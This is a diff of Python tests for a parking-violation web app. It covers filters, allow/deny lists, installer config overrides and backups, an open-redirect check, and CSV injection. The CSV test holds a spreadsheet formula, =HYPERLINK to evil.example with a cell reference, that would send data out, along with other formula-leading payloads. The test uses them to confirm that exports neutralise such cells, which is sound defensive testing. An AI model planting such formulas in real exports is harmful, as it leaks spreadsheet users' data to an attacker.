@@ -98,7 +98,7 @@ def test_list_filters_and_pagination(client):
     assert ids("?bay=A2") == ["6", "4", "2"]
     assert ids("?plate=粤B1") == ["7", "6", "1"]
     assert ids("?from=2026-03-03&to=2026-03-04") == ["5", "4", "3"]  # site days, 'to' inclusive
-    assert ids("?from=bad-date") == ids("")
+    assert client.get("/violations?from=bad-date").status_code == 400  # named, not silently ignored
     page2 = client.get("/violations?decision=open&page=1").text
     assert 'href="?decision=open&amp;page=2"' in page2  # pager keeps the filter
 
@@ -137,13 +137,15 @@ def test_decisions_are_audited(client, site):
 
 def test_add_plate_to_allow_list_reaches_agent_and_config(client, site):
     tok = token(client, "/violations")
+    before = site.config_path.read_bytes()
     r = client.post("/violations/1/list", data={"which": "allow", "csrf": tok}, follow_redirects=False)
     assert r.status_code == 303
     assert site.lists.lookup("粤B12345") == "allow"  # through control.set_lists: the running agent
     assert site.control.list_calls[-1] == (["粤B12345", "粤BD00001"], [])
     cfg = load_config(site.config_path)
     assert sorted(cfg.lists.allow) == ["粤B12345", "粤BD00001"] and cfg.lists.deny == []
-    assert len(list(site.root.glob("agent.yaml.bak-*"))) == 1
+    assert cfg.overrides_path == site.root / "data" / "overrides.yaml"  # the data dir, never the config file
+    assert site.config_path.read_bytes() == before
     # moving it to the deny-list takes it off the allow-list
     client.post("/violations/1/list", data={"which": "deny", "csrf": tok})
     assert site.lists.lookup("粤B12345") == "deny"
@@ -167,11 +169,12 @@ def test_installer_save_validates_backs_up_and_reloads(client, site):
                      {"id": "C3", "polygon": [[500, 100], [700, 100], [700, 250]]}]}
     r = client.post("/installer", json=good, headers={"X-CSRF-Token": tok})
     assert r.status_code == 200 and r.json()["ok"] and r.json()["reload"]["ok"]
-    saved = yaml.safe_load(site.config_path.read_text(encoding="utf-8"))
-    assert saved["bays"] == [{"id": "A1", "polygon": [[10.0, 300.0], [400.0, 300.0], [400.0, 530.0], [10.0, 530.0]],
-                              "lock_id": "L1"},
-                             {"id": "C3", "polygon": [[500.0, 100.0], [700.0, 100.0], [700.0, 250.0]]}]
-    assert saved["site"]["site_id"] == "plaza-7"  # the rest of the file is kept
+    assert site.config_path.read_text(encoding="utf-8") == before  # the operator's file is never written
+    saved = load_config(site.config_path)  # the overrides in the data dir, merged
+    assert [(b.id, [list(p) for p in b.polygon], b.lock_id) for b in saved.bays] == [
+        ("A1", [[10.0, 300.0], [400.0, 300.0], [400.0, 530.0], [10.0, 530.0]], "L1"),
+        ("C3", [[500.0, 100.0], [700.0, 100.0], [700.0, 250.0]], None)]
+    assert saved.site.site_id == "plaza-7" and r.json()["saved"] == str(site.root / "data" / "overrides.yaml")
     assert [b.id for b in site.control.reloads[0].bays] == ["A1", "C3"]
     assert site.log.audit_entries()[0]["action"] == "save_bays"
 
@@ -197,3 +200,44 @@ def test_open_redirect_is_refused(site):
     r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": token(c),
                                "next": "//evil.example/x"}, follow_redirects=False)
     assert r.headers["location"] == "/violations"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, site):
+    """OWASP CSV injection: a cell starting with = + - @ TAB or CR gets a leading quote, in every field."""
+    tok = token(client, "/violations")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    client.post("/violations/6/decide", data={"decision": "dismissed", "reason": evil, "csrf": tok})
+    for vid, reason in ((4, "+1 staff"), (2, "@SUM(1+1)")):
+        client.post(f"/violations/{vid}/decide", data={"decision": "dismissed", "reason": reason, "csrf": tok})
+    # fields the page does not write: the violation log stores what the bus said
+    site.log._db.execute("UPDATE violations SET plate='-2+3', colour='\tblue', nev_reason='\rx', "
+                         "evidence_id='=1+1', bay_id='@A9' WHERE id=1")
+    site.log._db.commit()
+    rows = list(csv.reader(io.StringIO(client.get("/violations.csv").content.decode("utf-8-sig"))))
+    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
+    assert body["6"]["decision_reason"] == "'" + evil
+    assert body["4"]["decision_reason"] == "'+1 staff" and body["2"]["decision_reason"] == "'@SUM(1+1)"
+    one = body["1"]
+    assert (one["plate"], one["colour"], one["nev_reason"], one["evidence_id"], one["bay_id"]) == \
+        ("'-2+3", "'\tblue", "'\rx", "'=1+1", "'@A9")
+    assert body["7"]["plate"] == "粤B11111" and body["3"]["nev"] == ""  # ordinary cells untouched
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+
+
+def test_three_installer_saves_in_one_second_keep_every_version_and_the_commented_original(client, site):
+    """Issue 15 §2 'Backups lost': saves named to the second collapsed into one backup, and the
+    operator's commented config was rewritten. Now: the config is never written, each save backs up
+    the previous overrides under its own name."""
+    tok = token(client, "/installer")
+    site.config_path.write_text("# operator's comment\n" + site.config_path.read_text(encoding="utf-8"),
+                                encoding="utf-8")
+    original = site.config_path.read_bytes()
+    for n in range(3):  # the site's clock does not move: all in one second
+        poly = [[10 + n, 300], [400, 300], [400, 530], [10, 530]]
+        r = client.post("/installer", json={"bays": [{"id": "A1", "polygon": poly}]}, headers={"X-CSRF-Token": tok})
+        assert r.status_code == 200, r.text
+    backups = sorted((site.root / "data" / "config-backups").iterdir())
+    assert len(backups) == 2 and len({p.name for p in backups}) == 2
+    assert [yaml.safe_load(p.read_text(encoding="utf-8"))["bays"][0]["polygon"][0][0] for p in backups] == [10, 11]
+    assert site.config_path.read_bytes() == original
